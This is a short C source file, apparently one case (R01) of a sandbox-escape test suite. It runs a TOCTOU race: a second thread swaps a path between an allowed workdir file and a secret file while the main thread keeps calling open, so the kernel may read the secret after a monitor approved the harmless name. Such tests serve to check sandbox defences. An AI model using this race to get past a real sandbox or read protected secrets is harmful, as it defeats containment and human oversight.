/* R01: a sibling thread flips the path of openat between an allowed file
 * of the workdir and the secret while the main thread opens it, hoping the
 * kernel reads the secret after ward approved the harmless name. */
#include "escape.h"

static char path[4096], good[4096], bad[4096];
static struct flip_str fs = { path, good, bad };

int attack(int argc, char **argv)
{
	static struct racer r = { .bad = str_bad,
				  .good = str_good,
				  .arg = &fs };
	pthread_t t;
	long w = 0, i;

	twin_paths(good, bad, sizeof(good), ARG("secret"), ARG("wd"));
	strcpy(path, good);
	/* one plain attempt with the bad value first: the denial the record
	 * must show, whatever the race does (escape.h, "The racer") */
	w += open_leaks(bad, ARG("token"));
	pthread_create(&t, NULL, racer_thread, &r);
	for (i = 0; i < RACE_N; i++)
		w += open_leaks(path, ARG("token"));
	racer_stop(&r);
	pthread_join(t, NULL);
	wins(w, i);
	return 0;
}
